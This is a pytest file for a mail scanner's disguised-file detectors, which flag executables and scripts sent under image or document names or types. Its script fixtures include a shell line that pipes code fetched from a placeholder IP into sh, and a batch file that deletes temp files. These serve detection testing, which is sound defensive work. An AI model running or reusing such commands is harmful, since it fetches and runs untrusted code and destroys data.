"""``file_type`` (disguised executables and scripts) and ``file_magic`` (libmagic rules).

The executables are real: this machine's own ``/bin/true`` (ELF) and ClamAV's
test file ``clam.exe`` (PE, from Debian's clamav-testfiles); the Mach-O header
is built here.  The corpus test runs ``parsemail(file_type())`` over the shared
corpora of real mail.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest

from mailsift.errors import ConfigError
from mailsift.message.mail import Mail
from mailsift.message.result import Result
from mailsift.scanners.archive import decompress
from mailsift.scanners.base import MailTarget, Scanner
from mailsift.scanners.filetype import EXECUTABLE, SCRIPT, Disguise, file_magic, file_type
from mailsift.scanners.parsemail import parsemail

CLAM_EXE = Path("/usr/share/clamav-testfiles/clam.exe")
ELF = Path("/bin/true").read_bytes()
MACHO = struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(204)
BATCH = b"@echo off\r\ndel /q %TEMP%\\*.*\r\nstart http://198.51.100.7/\r\n"
SHELL = b"#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/x | sh\n"
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(200)

needs_pe = pytest.mark.skipif(not CLAM_EXE.is_file(), reason="Debian package clamav-testfiles not installed")


def pe() -> bytes:
    return CLAM_EXE.read_bytes()


def message(data: bytes, content_type: str, filename: str | None = None, name: str | None = None) -> bytes:
    """A mail with one attachment; ``name`` sets Content-Type's name= beside the filename."""
    mail = EmailMessage()
    mail["From"] = "a@example.net"
    mail["To"] = "b@example.org"
    mail["Subject"] = "file"
    mail.set_content("see attached\n")
    maintype, subtype = content_type.split("/")
    mail.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    if name is not None:
        mail.get_payload()[1].set_param("name", name)
    return mail.as_bytes()


async def scan(scanner: Scanner, data: bytes) -> Result:
    mail = Mail(data=data)
    try:
        return await scanner.scan(MailTarget(mail))
    finally:
        mail.close()


def checker() -> Scanner:
    return parsemail(file_type())


# --------------------------------------------------------------------------- executables


@needs_pe
async def test_exe_renamed_jpg_is_disguised() -> None:
    result = await scan(checker(), message(pe(), "application/octet-stream", "holiday.jpg"))
    assert (result.level, result.name) == (1.0, "Policy.Executable.Disguised")
    assert "'holiday.jpg'" in result.detail
    assert "PE32" in result.detail


@needs_pe
async def test_exe_declared_jpeg_without_name_is_disguised() -> None:
    result = await scan(checker(), message(pe(), "image/jpeg"))
    assert (result.level, result.name) == (1.0, "Policy.Executable.Disguised")
    assert "declared image/jpeg" in result.detail


@needs_pe
async def test_exe_declared_jpeg_and_named_jpg_is_disguised() -> None:
    assert (await scan(checker(), message(pe(), "image/jpeg", "photo.jpg"))).name == "Policy.Executable.Disguised"


@needs_pe
async def test_exe_named_pdf_with_trailing_dot_is_disguised() -> None:
    result = await scan(checker(), message(pe(), "application/pdf", "invoice.pdf."))
    assert result.name == "Policy.Executable.Disguised"
    assert "'invoice.pdf'" in result.detail


@needs_pe
async def test_honest_exe_is_left_to_name_policies() -> None:
    assert not (await scan(checker(), message(pe(), "application/octet-stream", "setup.exe"))).detected
    assert not (await scan(checker(), message(pe(), "application/x-msdownload"))).detected
    # The name tells the user what it is, whatever the declared type says.
    assert not (await scan(checker(), message(pe(), "image/jpeg", "setup.exe"))).detected


@needs_pe
async def test_any_candidate_name_can_disguise() -> None:
    result = await scan(checker(), message(pe(), "application/octet-stream", "setup.exe", name="photo.jpg"))
    assert result.name == "Policy.Executable.Disguised"
    assert "'photo.jpg'" in result.detail


async def test_elf_named_txt_is_disguised() -> None:
    result = await scan(checker(), message(ELF, "text/plain", "notes.txt"))
    assert (result.level, result.name) == (1.0, "Policy.Executable.Disguised")
    assert "ELF" in result.detail
    assert not (await scan(checker(), message(ELF, "application/octet-stream", "true"))).detected


async def test_macho_declared_as_document_is_disguised() -> None:
    result = await scan(checker(), message(MACHO, "application/msword"))
    assert result.name == "Policy.Executable.Disguised"
    assert "Mach-O" in result.detail


# --------------------------------------------------------------------------- scripts and documents


async def test_batch_file_posing_as_document() -> None:
    result = await scan(checker(), message(BATCH, "application/msword", "invoice.doc"))
    assert (result.level, result.name) == (1.0, "Policy.Script.Disguised")
    assert "batch" in result.detail.lower()


async def test_shell_script_declared_pdf() -> None:
    result = await scan(checker(), message(SHELL, "application/pdf"))
    assert result.name == "Policy.Script.Disguised"


async def test_scripts_sent_as_text_are_honest() -> None:
    assert not (await scan(checker(), message(SHELL, "text/plain", "fix.sh"))).detected
    assert not (await scan(checker(), message(SHELL, "text/plain", "fix.txt"))).detected
    assert not (await scan(checker(), message(BATCH, "application/octet-stream", "run.bat"))).detected
    pasted = b"From: a@example.net\r\nSubject: try this\r\n\r\n" + SHELL.replace(b"\n", b"\r\n")
    assert not (await scan(checker(), pasted)).detected


async def test_pdf_declared_as_pdf_is_clean() -> None:
    assert not (await scan(checker(), message(PDF, "application/pdf", "report.pdf"))).detected
    assert not (await scan(checker(), message(JPEG, "image/jpeg", "photo.jpg"))).detected


async def test_pdf_named_jpg_is_no_executable_finding() -> None:
    # A wrong but harmless type is not what the default rules are about...
    assert not (await scan(checker(), message(PDF, "image/jpeg", "photo.jpg"))).detected
    # ...but a rule can make it one, as data.
    pdf_rule = Disguise("Policy.PDF.Disguised", r"^application/pdf$", r"\.pdf$", r"^application/(pdf|octet-stream)$")
    result = await scan(parsemail(file_type([pdf_rule])), message(PDF, "image/jpeg", "photo.jpg"))
    assert result.name == "Policy.PDF.Disguised"


@needs_pe
async def test_disguised_exe_inside_zip_found_through_decompress() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "hello")
        archive.writestr("scan0001.jpg", pe())
    data = message(buffer.getvalue(), "application/zip", "scans.zip")
    assert not (await scan(checker(), data)).detected  # the zip itself is honest
    result = await scan(parsemail(decompress(file_type())), data)
    assert result.name == "Policy.Executable.Disguised"
    assert "2/scan0001.jpg" in result.detail


@needs_pe
async def test_top_level_looks_at_every_part() -> None:
    assert (await scan(file_type(), message(pe(), "image/gif", "anim.gif"))).name == "Policy.Executable.Disguised"
    assert not (await scan(file_type(), message(JPEG, "image/jpeg", "photo.jpg"))).detected


@needs_pe
async def test_checks_can_be_switched_off() -> None:
    named = message(pe(), "application/octet-stream", "holiday.jpg")
    declared = message(pe(), "image/jpeg")
    assert not (await scan(parsemail(file_type(check_names=False)), named)).detected
    assert (await scan(parsemail(file_type(check_names=False)), declared)).detected
    assert not (await scan(parsemail(file_type(check_declared=False)), declared)).detected


def test_rules_as_dicts_and_tuples() -> None:
    as_dict = file_type([{"virname": "X", "detected": "^a/b$", "names": r"\.b$", "declared": "^a/b$"}])
    as_tuple = file_type([("X", "^a/b$", r"\.b$", "^a/b$")])
    assert as_dict.rules == as_tuple.rules == [Disguise("X", "^a/b$", r"\.b$", "^a/b$")]
    assert file_type().rules == [EXECUTABLE, SCRIPT]
    assert file_type().describe() == "file_type([Policy.Executable.Disguised, Policy.Script.Disguised])"


@pytest.mark.parametrize(
    ("rules", "message"),
    [
        ([], "rules must be a non-empty list"),
        ("EXE", "rules must be a non-empty list"),
        ([("X", "^a$")], "a rule is a Disguise"),
        ([{"virname": "X"}], "bad rule"),
        ([("X", "(", "x", "y")], "bad regular expression"),
    ],
)
def test_bad_rules_are_config_errors(rules: object, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        file_type(rules)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- file_magic


@needs_pe
async def test_file_magic_by_description_and_by_mime() -> None:
    exe = message(pe(), "application/octet-stream", "setup.exe")
    by_text = parsemail(file_magic([("Policy.Executable", r"^(PE32|MS-DOS executable|ELF)")]))
    result = await scan(by_text, exe)
    assert (result.level, result.name, result.scanner) == (1.0, "Policy.Executable", "file_magic")
    assert "PE32" in result.detail
    assert "in 2" in result.detail
    assert not (await scan(by_text, message(PDF, "application/pdf", "report.pdf"))).detected
    by_mime = parsemail(file_magic([("Policy.PDF", r"^application/pdf$")], mime=True))
    assert (await scan(by_mime, message(PDF, "application/octet-stream", "x.bin"))).name == "Policy.PDF"
    assert not (await scan(by_mime, exe)).detected


async def test_file_magic_sagator_long_form_needs_every_pattern() -> None:
    scanner = parsemail(file_magic([["Elf.X86", r"^ELF", r"x86-64"], ["Elf.Arm", r"^ELF", r"ARM"]]))
    assert (await scan(scanner, message(ELF, "application/octet-stream", "true"))).name == "Elf.X86"


def test_file_magic_bad_rules() -> None:
    with pytest.raises(ConfigError, match="file_magic"):
        file_magic([])
    with pytest.raises(ConfigError, match="bad regular expression"):
        file_magic([("X", "(")])


# --------------------------------------------------------------------------- the corpora's ham

from tests.helpers.paths import CORPORA  # noqa: E402


def _corpus() -> list[str]:
    if not (CORPORA / "MANIFEST.tsv").is_file():
        return []
    with open(CORPORA / "MANIFEST.tsv", encoding="utf-8", newline="") as handle:
        return [row["local_path"] for row in csv.DictReader(handle, delimiter="\t")]


# Every file of the corpora is run, ham and spam alike (none is malware, README.md).
# Expected findings, argued: none. SpamAssassin's zippwmacro.eml (a spam sample) carries a
# password-protected zip with an Office macro file; it was Encrypted.Archive until decompress
# opened it with the password its text gives ("Password: sa", issue 14): the .xlsm inside is
# no executable, so file_type finds nothing (tests/unit/scanners/test_encrypted.py).
EXPECTED_FINDINGS: dict[str, str] = {}


@pytest.mark.skipif(not _corpus(), reason="mail corpora not found beside the repository")
@pytest.mark.parametrize("unpack", [False, True], ids=["parts", "parts-and-members"])
async def test_no_finding_on_the_corpora(unpack: bool) -> None:
    scanner = parsemail(decompress(file_type())) if unpack else parsemail(file_type())
    findings = {}
    for local_path in _corpus():
        result = await scan(scanner, (CORPORA / local_path).read_bytes())
        if result.detected:
            findings[local_path] = f"{result.name}: {result.detail}"
    expected = EXPECTED_FINDINGS if unpack else {}
    assert {path: finding.split(":")[0] for path, finding in findings.items()} == expected, findings
